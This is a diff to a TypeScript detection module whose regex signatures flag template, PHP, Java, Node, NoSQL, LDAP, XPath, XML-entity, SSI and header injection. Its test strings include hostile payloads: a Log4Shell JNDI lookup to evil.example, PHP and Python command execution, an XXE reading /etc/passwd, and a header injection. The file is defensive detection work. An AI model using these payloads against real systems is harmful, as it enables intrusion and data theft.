@@ -1,15 +1,13 @@
 import { signaturesOf, type SignatureRow } from "./rows.ts";
-import { AGENT, HEADERS, INPUT, PATH, type Signature } from "./signature.ts";
-
-const ANYWHERE = INPUT | PATH | HEADERS | AGENT;
+import { HEADERS, INPUT, PATH } from "./places.ts";
+import type { Signature } from "./signature.ts";
 
 const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "java-jndi",
     title: "Log4Shell: a look-up in a logged value",
-    pattern: String.raw`\$\{[^}]{0,40}(?:j(?:\$\{[^}]{0,40}\}?)?n|jndi|j\}|:-j)|\$\{(?:jndi|ctx|java|env|sys|main|marker|date|lower|upper|base64|k8s|docker|spring|web|bundle|map|event|sd|log4j)(?::|%3a)|\$\{(?:[a-z0-9_]{0,20}:){1,4}-|\$\{\$\{`,
+    pattern: String.raw`\$\{[^}]{0,60}(?:jndi|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j)(?::|%3a)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{\$\{`,
     needs: ["${"],
-    targets: ANYWHERE,
     hits: [
       "${jndi:ldap://evil.example/a}",
       "${${lower:j}ndi:rmi://x}",
@@ -18,24 +16,22 @@ const TEMPLATES: readonly SignatureRow[] = [
       "%24%7Bjndi:dns://x%7D",
       "${j${k8s:k5:-ND}i:ldap://x}",
     ],
-    misses: ["${name}", "costs ${5}", "${user.name}", "a $ {b}"],
+    misses: ["${obj}", "${PORT:-8080}", "${name}", "costs ${5}", "${user.name}", "a $ {b}"],
   },
   {
     slug: "template-expression",
     title: "Template injection: an expression that is worked out",
-    pattern: String.raw`(?:\{\{|\$\{|#\{|<%=?|\{%|\[\[|@\(|\*\{) ?['"(]?\d{1,10} ?['"]? ?[*+] ?['"]?\d{1,10} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))`,
+    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%=?|\{%|\[\[|@\(|\*\{|\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))`,
     needs: ["{{", "${", "#{", "<%", "{%", "[[", "@(", "*{"],
-    targets: ANYWHERE,
     hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)"],
-    misses: ["{{name}}", "[[1, 2]]", "${price}"],
+    misses: ["{{name}}", "[[1, 2]]", "${price}", "a{1,3}"],
   },
   {
     slug: "template-objects",
     title: "Template injection: ways from a template to the system",
     // Of braces that are repeated each is looked behind as far as the next one only.
-    pattern: String.raw`(?:\{\{|\{%|\$\{|#\{|<%|\*\{|#set ?\()[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr)|self ?\.|config ?(?:\.|\[|\|)|lipsum|cycler|joiner|namespace|getruntime|class\.forname|t\(java\.|freemarker|execute ?\(|new ?\(|_self|registerundefinedfiltercallback|filter\('system|system ?\(|popen|os\.|range\.constructor|process\.|require ?\(|__proto__|constructor)`,
-    needs: ["{{", "{%", "${", "#{", "<%", "*{", "#set"],
-    targets: ANYWHERE,
+    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec|id)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"](?:child_process|fs|os)|__proto__|constructor ?[.(\[]|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\.exec ?\( ?['"]|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app)`,
+    needs: ["{", "<%", "<#", "#set", "$"],
     hits: [
       "{{config.items()}}",
       "{{''.__class__.__mro__[1].__subclasses__()}}",
@@ -48,11 +44,18 @@ const TEMPLATES: readonly SignatureRow[] = [
     misses: ["{{user.name}}", "{{ product.title }}", "{% if user %}", "${item.newest}"],
   },
   {
+    slug: "template-probe",
+    title: "Template injection: a probe as a whole value",
+    pattern: String.raw`^[^ ]{0,20}\{\{ ?(?:config|self|request|settings|session|app|_self|_context|globals|g|env|this|dump\([a-z_]{0,20}\)|debug|\$on\.constructor|[a-z]{1,10}\.__[a-z]{1,20}|['"][^'"]{0,20}['"] ?\. ?(?:toupper|tolower|upper|lower|join|__)[a-z]{0,8}) ?(?:\(\)|\(\))? ?\}\}|^[^ ]{0,20}\{% ?(?:debug|import|include|extends|for [a-z]{1,10} in [(\[]|if [(\['"])[^%]{0,80}%\}|^[^ ]{0,20}\{(?:php|literal|\$smarty\.[a-z]{1,30}|system\(|exec\(|if [a-z_]{2,20}\()|^#(?:set|foreach|include|evaluate) ?\(|^\$\{\{? ?[a-z.]{1,40}\.(?:getclass|class)\b|^<%= ?(?:[a-z0-9_.:'"]{1,40} ?(?:\.|\()|\d)|^#\{ ?(?:[a-z0-9_.:]{1,40} ?[.(]|\d)|^\$\{@[a-z_]{1,20} ?\(|\{\$\{@?[a-z_]{2,20} ?\(|^[^ ]{0,10}\$\{ ?(?:sleep|phpinfo|print|system|eval|passthru|exec|md5|die) ?\(`,
+    needs: ["{{", "{%", "{php", "{literal", "{$smarty", "{system", "{exec", "{if", "#set", "#foreach", "#include", "#evaluate", "${", "<%=", "#{"],
+    hits: ["{{config}}", "{{ self }}", "{{'a'.toUpperCase()}}", "{% debug %}", "{php}echo `id`;{/php}", "{$smarty.version}", "#set($x=1)", "<%= File.open('/x') %>", "{${sleep(20)}}", "${@print(md5(1))}"],
+    misses: ["{{name}}", "Hello {{ user.name }}", "{{ config.title }}", "{% if user %}x{% endif %}", "${name}", "<%= name %>"],
+  },
+  {
     slug: "template-python",
     title: "Python objects that lead to the system",
     pattern: String.raw`__(?:class|globals|builtins|mro|subclasses|import|getattribute|reduce)__ ?(?:\.|\[|\(|\b)|\b__import__ ?\(|\bos\.(?:system|popen|exec[lv]p?e?) ?\(|\bsubprocess\.(?:popen|call|run|check_output)|\bpickle\.loads|\beval ?\( ?compile ?\(`,
     needs: ["__", "os.", "subprocess.", "pickle.", "compile"],
-    targets: ANYWHERE,
     hits: ["''.__class__.__mro__", "__import__('os').system('id')", "os.popen('id')", "subprocess.check_output"],
     misses: ["__init__.py", "os.path", "the subprocess. Call"],
   },
@@ -64,9 +67,16 @@ const PHP: readonly SignatureRow[] = [
     title: "PHP injection: an opening tag",
     pattern: String.raw`<\?(?:php\b|=|[ ](?:eval|system|echo|exec|passthru|include|require|phpinfo|\$_))|<script language ?= ?["']?php`,
     needs: ["<?", "<script"],
-    targets: ANYWHERE,
     hits: ["<?php system($_GET['c']); ?>", "<?=`id`?>", "<?PHP phpinfo()"],
     misses: ['<?xml version="1.0"?>', "what <? is", "a <?> b"],
+  },
+  {
+    slug: "php-call",
+    title: "PHP injection: a call as a value",
+    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\})|str_|get_|system|phpinfo|gz|\d{1,6} ?\) ?;)`,
+    needs: ["("],
+    hits: [";system('id')", "phpinfo()", "eval($_POST[x])", "';phpinfo();//", "print_r(scandir('/'))", "call_user_func('system','id')"],
+    misses: ["the system (old)", "call exec('ls') from a script", "re.exec('x')", "eval()uation", "db.exec('x')"],
   },
   {
     slug: "php-functions",
@@ -82,7 +92,7 @@ const PHP: readonly SignatureRow[] = [
       "call_user_func('system','id')",
     ],
     misses: ["the system (old)", "exec (a,b)", "require (1)", "include('"],
-    isCertain: false,
+    certainty: "likely",
   },
   {
     slug: "php-variables",
@@ -115,7 +125,7 @@ const JAVA: readonly SignatureRow[] = [
     slug: "java-runtime",
     title: "Java injection: classes that run something",
     pattern: String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression)|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class\.module\.classloader)`,
-    targets: ANYWHERE,
+    unless: isStackTrace,
     hits: [
       "java.lang.Runtime.getRuntime().exec('id')",
       "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
@@ -129,7 +139,6 @@ const JAVA: readonly SignatureRow[] = [
     title: "Java injection: expressions of OGNL and SpEL",
     pattern: String.raw`(?:%\{|\$\{|\(|^)[ (]{0,4}#(?:_memberaccess|context|cmd|p|dm|container|ognlutil|iswin|cmds|process|ros|req|res|attr|application|session|parameters|rt|root)(?:\[|\.|=| =)|@(?:ognl\.ognlcontext|java\.lang|org\.apache)|_memberaccess|xwork\.methodaccessor|#\{t ?\(|\bt\(java\.`,
     needs: ["#", "@", "_memberaccess", "xwork", "t("],
-    targets: ANYWHERE,
     hits: [
       "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
       "${(#cmd='id')}",
@@ -153,16 +162,15 @@ const NODE: readonly SignatureRow[] = [
   {
     slug: "node-injection",
     title: "JavaScript injection on the server",
-    pattern: String.raw`\b(?:require ?\( ?['"${"`"}](?:child_process|fs|net|http|os|vm|process|module|node:)|child_process['"]? ?\)? ?\.|process\.(?:mainmodule|binding\b|env\b|exit\b|kill\b|argv\b|dlopen)|global\.process|globalthis ?\. ?(?:process|constructor)|execsync ?\(|spawnsync ?\(|import ?\( ?['"${"`"}](?:child_process|fs|node:)|_\$\$nd_func\$\$_|this ?\. ?constructor ?\. ?constructor)`,
+    pattern: String.raw`\b(?:require ?\( ?['"${"`"}](?:node:)?child_process['"${"`"}] ?\) ?\. ?(?:exec|spawn|fork)|require ?\( ?['"${"`"}](?:node:)?(?:fs|net|http|os|vm)['"${"`"}] ?\) ?\. ?(?:readfile|readdir|writefile|createread|exists|unlink|connect|get|runin|networkinter|hostname)|child_process['"${"`"}]? ?\)? ?\.|process\.(?:mainmodule|binding\b|dlopen|kill ?\()|global(?:this)?(?:\.|\[["'${"`"}])process|globalthis ?\. ?constructor|execsync ?\(|spawnsync ?\(|import ?\( ?['"${"`"}](?:node:)?(?:child_process|fs)|_\$\$nd_func\$\$_|this ?\. ?constructor ?\. ?constructor|constructor ?\( ?['"${"`"}]return (?:process|this|global))`,
     needs: ["require", "child_process", "process", "global", "execsync", "spawnsync", "import", "nd_func", "constructor"],
-    targets: ANYWHERE,
     hits: [
       "require('child_process').exec('id')",
       "process.mainModule.require('fs')",
       '{"rce":"_$$ND_FUNC$$_function(){}"}',
       "this.constructor.constructor('return process')()",
     ],
-    misses: ["requires (fs)", "the process. Exit", "import (goods)", "process.environment"],
+    misses: ["requires (fs)", "the process. Exit", "import (goods)", "process.environment", "const fs = require('fs')", "process.env.HOME", "app.listen(process.env.PORT)"],
   },
   {
     slug: "node-prototype",
@@ -186,17 +194,16 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "nosql-script",
     title: "NoSQL injection: scripts in queries",
-    pattern: String.raw`(?:\$where['"]? ?:|this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\()|\bdb\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|aggregate|mapreduce) ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==)`,
-    needs: ["$where", "this.", "db.", "||", "&&"],
-    hits: ["';return this.password.match(/a/)//", "db.users.find()", "' || 'a'=='a"],
+    pattern: String.raw`(?:['"{,;] ?['"]?\$(?:where|ne|gt|gte|lt|lte|nin|regex|exists|or|function)['"]? ?:|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do\{[a-z]{1,12}=new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
+    needs: ["$", "this.", "db.", "||", "&&", "return", "while", "sleep", "var", "throw", "it=", "do{"],
+    hits: ["', $where: '1 == 1", "';return this.password.match(/a/)//", "db.users.find()", "' || 'a'=='a"],
     misses: ["this. That", "db. users", "a && b == c"],
-    isCertain: false,
   },
   {
     slug: "ldap-filter",
     title: "LDAP injection: a filter",
-    pattern: String.raw`\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]`,
-    needs: [")(", "(|(", "(&("],
+    pattern: String.raw`\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]|\*\)\)(?:\x00|\(|$)|\*\(\||\)\)\(\||^[^()]{0,40}\)\(?[|&!]\(|\(objectclass=|\*\)[(&|]{1,2}[a-z(]`,
+    needs: [")(", "(|", "(&", "*)", ")|", ")&", ")!", "(objectclass"],
     hits: ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "(|(cn=*)"],
     misses: ["f(x)(y)", "(a) (b)", "smile :)("],
   },
@@ -204,9 +211,18 @@ const DATA: readonly SignatureRow[] = [
     slug: "xml-entity",
     title: "XML: entities and documents from elsewhere",
     pattern: String.raw`<!(?:entity|doctype)[ \[][^>]{0,200}(?:system|public|\[|%|entity)|<!entity|<\?xml-stylesheet|<xi:include|xmlns:xi ?=|<xsl:|<!\[cdata\[ ?<`,
+    unless: isPublicHtml,
     needs: ["<!entity", "<!doctype", "xml-stylesheet", "xi:include", "xmlns:xi", "<xsl:", "<![cdata["],
     hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!ENTITY % p SYSTEM "http://x">', '<xi:include href="x"/>'],
     misses: ["<!doctype html>", "<a>b</a>", "an entity"],
+  },
+  {
+    slug: "xpath-union",
+    title: "XPath injection: another path",
+    pattern: String.raw`['"] ?\)?\] ?\| ?/{1,2}[a-z*]|['"] ?\) ?\] ?/|['"]\]/\*|(?:\bor|\band|\|) ?/{1,2}(?:\*|[a-z]{1,20}(?:/|::|\[))`,
+    needs: ["]", "/"],
+    hits: ["x'] | //user/*", "' or //user[1]", "'] | //a/* | b['"],
+    misses: ["see a['b']", "and /home", "https://a.example/b"],
   },
   {
     slug: "xpath",
@@ -215,7 +231,7 @@ const DATA: readonly SignatureRow[] = [
     needs: ["'", '"', "::"],
     hits: ["' or count(/*)=1 or 'a'='b", "x'] | //user/*[contains(*,'", "/child::node()"],
     misses: ["'a' or counting", "std::vector", "parent: self"],
-    isCertain: false,
+    certainty: "likely",
   },
   {
     slug: "yaml-objects",
@@ -233,20 +249,29 @@ const DATA: readonly SignatureRow[] = [
     slug: "ssi",
     title: "Server-side includes",
     pattern: String.raw`<!--[ ]?#[ ]?(?:exec|include|echo|config|printenv|fsize|flastmod|set)\b|<esi:(?:include|vars|inline|comment|remove|try)`,
-    targets: ANYWHERE,
     hits: ['<!--#exec cmd="id"-->', '<!--#include file="/etc/x"-->', '<esi:include src="http://x"/>'],
     misses: ["<!-- a comment -->", "<!-- #1 -->"],
   },
   {
     slug: "header-injection",
     title: "A response header in a value",
-    pattern: String.raw`(?:^|[^a-z-])(?:set-cookie ?: ?[a-z0-9_-]{1,40}=|content-type ?: ?text/html|content-length ?: ?\d|location ?: ?https?://|http/(?:0\.9|1\.[01]|2)(?: \d{3}|$))`,
-    needs: ["set-cookie", "content-type", "content-length", "location", "http/"],
+    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|x-[a-z-]{2,30}|bcc|cc|to|subject|from|reply-to|mime-version) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)|(?:\xe5\x98\x8a|\xe5\x98\x8d)(?:[a-z-]{3,30}:|\xe5\x98)`,
+    needs: ["\r", "\n", "\xe5\x98"],
+    reading: "lines",
     hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "%0aContent-Length: 0"],
-    misses: ["set a cookie", "my location: home", "over http/s"],
-    paranoia: 2,
+    misses: ["set a cookie", "my location: home", "over http/s", "name: x\nlocation: Berlin", "Dear all,\nsee you\nTo: do"],
   },
 ];
+
+/** Programs report where they failed: class names with lines. */
+function isStackTrace(text: string): boolean {
+  return /(?:\bat |["']module["']: ?["'])[\w.$/]{3,200}(?:\([\w.]{1,80}(?::\d{1,6})?\)|["'])/.test(text.slice(0, 65_536)) && !/getruntime|processbuilder\(|\.exec\(|classloader/.test(text);
+}
+
+/** Documents of XHTML begin so. */
+function isPublicHtml(text: string): boolean {
+  return /<!doctype html public/.test(text) && !/<!entity|<!\[cdata\[ ?<|<xi:|<xsl:/.test(text);
+}
 
 export const TEMPLATE_INJECTION: readonly Signature[] = signaturesOf("template-injection", TEMPLATES);
 export const PHP_INJECTION: readonly Signature[] = signaturesOf("php", PHP);
